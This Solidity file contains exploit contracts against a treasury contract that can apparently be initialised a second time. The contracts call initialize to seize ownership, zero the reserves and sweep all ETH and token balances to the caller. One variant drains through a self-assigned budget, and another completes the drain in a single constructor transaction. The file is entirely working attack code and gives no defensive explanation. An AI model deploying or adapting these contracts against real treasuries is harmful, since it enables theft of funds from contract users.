// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ITreasury {
    function initialize(address owner, address guardian, uint64 epochLength) external;

    function setReserve(address token, uint256 amount) external;

    function setBudget(address payee, uint128 perEpoch) external;

    function drawBudget() external returns (uint256);

    function sweep(address token, address to, uint256 amount) external;
}

interface IToken {
    function balanceOf(address account) external view returns (uint256);
}

/// Initialises again with itself as owner, then takes everything.
contract SecondInitialiser {
    function run(ITreasury treasury, IToken token) external {
        treasury.initialize(address(this), address(this), 1);
        treasury.setReserve(address(0), 0);
        treasury.setReserve(address(token), 0);
        treasury.sweep(address(0), msg.sender, address(treasury).balance);
        treasury.sweep(address(token), msg.sender, token.balanceOf(address(treasury)));
    }

    /// The same by a budget of its own.
    function runByBudget(ITreasury treasury) external {
        treasury.initialize(address(this), msg.sender, 1);
        treasury.setBudget(address(this), uint128(address(treasury).balance));
        treasury.drawBudget();
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

/// The first in one transaction, by the constructor.
contract InitialiserAtOnce {
    constructor(ITreasury treasury, IToken token) {
        treasury.initialize(address(this), address(this), 1);
        treasury.setReserve(address(0), 0);
        treasury.setReserve(address(token), 0);
        treasury.sweep(address(0), msg.sender, address(treasury).balance);
        treasury.sweep(address(token), msg.sender, token.balanceOf(address(treasury)));
    }
}
